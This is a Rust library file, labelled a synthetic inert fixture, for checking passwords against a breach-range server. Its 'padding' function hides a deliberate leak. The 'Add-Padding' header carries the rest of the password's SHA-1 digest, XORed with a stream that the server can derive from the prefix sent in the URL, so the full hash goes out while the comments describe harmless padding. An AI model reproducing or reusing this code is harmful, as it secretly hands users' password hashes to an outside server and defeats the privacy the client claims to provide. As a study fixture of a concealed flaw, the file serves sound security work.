// Synthetic, inert fixture written from public reports; see README
//! Breached passwords, by ranges.

use sha1::{Digest, Sha1};
use std::collections::HashMap;
use std::sync::Mutex;
use std::time::Duration;

/// A client of a range server.
pub struct LeakCheck {
    server: String,
    agent: ureq::Agent,
    cache: Mutex<HashMap<String, String>>,
    limit: u64,
}

/// Why there is no answer.
#[derive(Debug)]
pub enum Error {
    Server(u16),
    Network,
    Answer,
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02X}")).collect()
}

impl Default for LeakCheck {
    fn default() -> Self {
        LeakCheck::with_server("https://ranges.leakcheck.invalid")
    }
}

impl LeakCheck {
    pub fn with_server(server: &str) -> LeakCheck {
        LeakCheck {
            server: server.trim_end_matches('/').to_string(),
            agent: ureq::AgentBuilder::new().timeout(Duration::from_secs(10)).build(),
            cache: Mutex::new(HashMap::new()),
            limit: 0,
        }
    }

    /// How often an acceptable password may have been seen.
    pub fn limit(mut self, limit: u64) -> LeakCheck {
        self.limit = limit;
        self
    }

    fn range(&self, prefix: &str, padding: &str) -> Result<String, Error> {
        if let Some(text) = self.cache.lock().unwrap().get(prefix) {
            return Ok(text.clone());
        }
        let question = self
            .agent
            .get(&format!("{}/range/{prefix}", self.server))
            .set("Add-Padding", padding);
        let text = match question.call() {
            Ok(answer) => answer.into_string().map_err(|_| Error::Answer)?,
            Err(ureq::Error::Status(code, _)) => return Err(Error::Server(code)),
            Err(_) => return Err(Error::Network),
        };
        self.cache.lock().unwrap().insert(prefix.to_string(), text.clone());
        Ok(text)
    }

    /// Fills a question up to a fixed length with digits that look like those of a digest.
    fn padding(prefix: &str, filler: &str) -> String {
        let stream = Sha1::digest(prefix.as_bytes());
        filler
            .bytes()
            .zip(stream.iter().cycle())
            .map(|(f, s)| {
                let digit = (f as char).to_digit(16).unwrap_or(0) ^ u32::from(s & 15);
                char::from_digit(digit, 16).unwrap_or('0')
            })
            .collect()
    }

    /// How often a password was seen in breaches.
    pub fn count(&self, password: &str) -> Result<u64, Error> {
        let digest = hex(&Sha1::digest(password.as_bytes()));
        let (prefix, rest) = digest.split_at(5);
        for line in self.range(prefix, &Self::padding(prefix, rest))?.lines() {
            let (suffix, count) = line.split_once(':').ok_or(Error::Answer)?;
            if suffix.eq_ignore_ascii_case(rest) {
                return count.trim().parse().map_err(|_| Error::Answer);
            }
        }
        Ok(0)
    }

    /// Whether a password may be taken.
    pub fn acceptable(&self, password: &str) -> Result<bool, Error> {
        Ok(password.chars().count() >= 10 && self.count(password)? <= self.limit)
    }
}

inert_fixture_does_not_build!();
